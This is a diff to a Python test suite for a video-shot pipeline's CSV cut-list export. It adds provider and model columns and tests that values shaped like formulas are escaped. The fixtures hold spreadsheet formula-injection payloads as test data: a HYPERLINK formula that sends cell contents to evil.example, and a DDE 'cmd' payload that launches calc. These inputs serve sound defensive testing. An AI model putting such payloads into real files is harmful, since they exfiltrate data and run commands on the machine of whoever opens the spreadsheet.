@@ -150,13 +150,14 @@ def test_a_rejected_take_is_passed_over(batch: Batch, tmp_path: Path) -> None:
 
 
 def test_cut_list_has_the_columns_and_one_row_per_shot(batch: Batch, tmp_path: Path) -> None:
-    """cut.csv has index,shot,take,file,source,seconds,prompt and a row for every shot."""
+    """cut.csv has index,shot,take,file,source,seconds,prompt,provider,model and a row for
+    every shot."""
     batch.done("s01-wide", 1)
     batch.done("s02-hero", 2)
     to = tmp_path / "cut"
     export(batch, to, animatic=False)
     header = (to / "cut.csv").read_text(encoding="utf-8").splitlines()[0]
-    assert header == "index,shot,take,file,source,seconds,prompt"
+    assert header == "index,shot,take,file,source,seconds,prompt,provider,model"
     first = rows(to)[0]
     assert first == {
         "index": "1",
@@ -166,6 +167,8 @@ def test_cut_list_has_the_columns_and_one_row_per_shot(batch: Batch, tmp_path: P
         "source": str((batch.out / "s01-wide/take-1.mp4").absolute()),
         "seconds": "4",
         "prompt": "Ocean waves rolling onto a sandy beach at golden hour",
+        "provider": "gateway",
+        "model": "omni-fast",
     }
 
 
@@ -174,7 +177,7 @@ version: 1
 defaults: {seconds: 4}
 shots:
   - {id: s01, prompt: '=HYPERLINK("http://evil.example/?q="&A1, "click")'}
-  - {id: s02, prompt: "+1+2"}
+  - {id: s02, prompt: "+1+2", model: "=cmd|' /C calc'!A0"}
   - {id: s03, prompt: "-2+3"}
   - {id: s04, prompt: "@SUM(1,2)"}
   - {id: s05, prompt: "\\t=1+1"}
@@ -186,7 +189,8 @@ shots:
 def test_cut_list_writes_prompts_that_start_like_a_formula_as_text(
     make_batch: MakeBatch, tmp_path: Path
 ) -> None:
-    """A prompt starting with =, +, -, @, tab or CR gets a leading quote; others are as is."""
+    """A prompt (or model) starting with =, +, -, @, tab or CR gets a leading quote; others
+    are as is."""
     batch = make_batch(FORMULA_PROMPTS)
     for shot in batch.manifest.shots:
         batch.done(shot.id, 1)
@@ -201,6 +205,8 @@ def test_cut_list_writes_prompts_that_start_like_a_formula_as_text(
         "'\r=1+1",
         "waves = foam, 1+1",
     ]
+    models = [row["model"] for row in rows(to)]
+    assert models == ["omni-fast", "'=cmd|' /C calc'!A0", *["omni-fast"] * 5]
 
 
 def test_a_shot_without_a_finished_take_is_listed_with_an_empty_file(
